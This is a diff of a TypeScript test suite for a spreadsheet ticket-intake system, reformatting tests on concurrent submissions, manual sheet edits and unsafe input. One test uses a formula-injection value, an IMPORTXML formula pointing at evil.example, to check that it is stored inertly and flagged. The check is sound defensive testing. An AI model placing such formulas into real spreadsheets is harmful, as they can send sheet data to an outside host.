@@ -1,7 +1,6 @@
 /** SPEC §14 for tickets: concurrency, duplicate fires, people editing the sheet, bad input. */
-import { newDesk, rowsOf } from '../helpers/desk';
+import { documentProperties, formId, newDesk, rowsOf } from '../helpers/desk';
 import { complaint, intakeAnswers, submitIntake } from '../helpers/intake';
-import { documentProperties, formId } from '../helpers/desk';
 
 describe('concurrent intake', () => {
   it('50 submissions within one simulated second: 50 tickets, unique consecutive IDs, nothing overwritten; a duplicate fire creates nothing', () => {
@@ -10,7 +9,9 @@ describe('concurrent intake', () => {
     for (let i = 0; i < 50; i++) {
       const submitted = emu.submitForm(
         formId(emu, 'form.intake'),
-        intakeAnswers(complaint({ customer: `Customer ${i}`, phone: `1391234${String(i).padStart(4, '0')}` })),
+        intakeAnswers(
+          complaint({ customer: `Customer ${i}`, phone: `1391234${String(i).padStart(4, '0')}` }),
+        ),
         { defer: true },
       );
       jobs.push(...submitted.jobs);
@@ -61,7 +62,12 @@ describe('people editing the Tickets sheet', () => {
     expect(emu.logs.filter((entry) => entry.level === 'error')).toEqual([]);
     const values = emu.spreadsheet.sheet('Tickets').values();
     const head = values[0];
-    expect(values.map((row) => row[head.indexOf('ID')])).toEqual(['ID', 'CMP-2026-00002', 'CMP-2026-00001', 'CMP-2026-00003']);
+    expect(values.map((row) => row[head.indexOf('ID')])).toEqual([
+      'ID',
+      'CMP-2026-00002',
+      'CMP-2026-00001',
+      'CMP-2026-00003',
+    ]);
     expect(values[1][head.indexOf('My notes')]).toBe('call back Friday');
     expect(values[3][head.indexOf('My notes')]).toBe('');
     expect(values[3][head.indexOf('客户姓名')]).toBe('Second');
@@ -111,7 +117,11 @@ describe('bad input is stored safely and flagged', () => {
     const [ticket] = rowsOf(emu, 'Tickets');
     expect(ticket['Needs review']).toBe(true);
     expect(ticket.Customer).toBe('=IMPORTXML("http://evil.example","//a")');
-    const formulas = emu.spreadsheet.sheet('Tickets').formulas().flat().filter((formula) => formula !== '');
+    const formulas = emu.spreadsheet
+      .sheet('Tickets')
+      .formulas()
+      .flat()
+      .filter((formula) => formula !== '');
     expect(formulas).toEqual([]);
     // Capped at 5,000 characters (code points: the emoji counts once).
     expect([...String(ticket.Description)].length).toBeLessThanOrEqual(5000);
